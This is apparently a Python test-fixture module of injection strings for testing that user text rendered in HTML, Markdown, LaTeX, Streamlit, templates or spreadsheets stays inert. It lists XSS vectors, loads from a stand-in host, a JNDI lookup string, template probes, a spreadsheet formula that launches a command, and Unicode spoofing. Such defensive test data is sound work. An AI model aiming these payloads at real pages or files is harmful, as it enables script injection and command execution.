"""Text that a browser, Markdown, LaTeX, a chart, a template or a spreadsheet could take for more than text."""

from __future__ import annotations

HIT = "window.hit=1"
FOREIGN = "http://foreign.example"

MARKUP = [
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"</b><svg/onload={HIT}>",
    f"<svg><animate onbegin={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<iframe src=javascript:{HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}>",
    f"<object data=javascript:{HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<math><mtext><img src=x onerror={HIT}>",
    f"<style>@import '{FOREIGN}/x.css'</style>",
    f"<link rel=stylesheet href={FOREIGN}/x.css>",
    f"<meta http-equiv=refresh content=0;url={FOREIGN}>",
    f"<base href={FOREIGN}/>",
    f"<form action={FOREIGN}><button autofocus>",
    f"<img src={FOREIGN}/x.png>",
    "<!--",
    "-->",
    "]]>",
    "</script></style></textarea></title>",
    f'"><img src=x onerror={HIT}>',
    f"' onmouseover={HIT} x='",
    f"`-{HIT}-`",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]
MARKDOWN = [
    f"[a](javascript:{HIT})",
    f"[a](java\tscript:{HIT})",
    f"[a](data:text/html,<script>{HIT}</script>)",
    f"![x]({FOREIGN}/x.png)",
    f"[![x]({FOREIGN}/x.png)]({FOREIGN})",
    f"[a]: {FOREIGN}/x",
    f"<{FOREIGN}/x>",
    f"{FOREIGN}/x.png",
    "**bold** __bold__ ~~gone~~ ==marked==",
    "`code` ```code```",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "| a | b |",
    "---",
    "\\",
    "\\[x](y)",
    "[^1]",
]
STREAMLIT = [
    ":red[x]",
    ":red-background[x]",
    ":rainbow[x]",
    ":material/home:",
    ":smile: :streamlit:",
    ":small[x] :blue-badge[x]",
    f":red[![x]({FOREIGN}/x.png)]",
    "<- -> <-> --",
]
LATEX = [
    "$x$ $$y$$",
    "$\\href{javascript:window.hit=1}{x}$",
    f"$\\includegraphics{{{FOREIGN}/x.png}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "\\(x\\) \\[y\\]",
]
TEMPLATES = [
    "{0} {x!r} {x.__class__} {",
    "%s %(x)s %",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%{x} %{text} %{customdata}",
    "${jndi:ldap://foreign.example/x}",
    "__proto__",
    "constructor",
    "toString",
]
CELLS = [
    "=cmd|'/c calc'!A0",
    f'=HYPERLINK("{FOREIGN}","x")',
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
]
LETTERS = [
    "\u202egnp.exe",
    "\u2066\u2067x\u2069",
    "\u200f\u200e\u061c",
    "\u200b\u2060\ufeff",
    "z\u0351\u036b\u0343\u036a\u0302" * 10,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "مرحبا بالعالم",
    "质量很好，发货也快" * 8,
    "a" * 200,
    "x\x00y\x1b[31mz",
    "line\u2028line\u2029line\r\nline",
    " ",
    "",
]
EVERY = [*MARKUP, *MARKDOWN, *STREAMLIT, *LATEX, *TEMPLATES, *CELLS, *LETTERS]
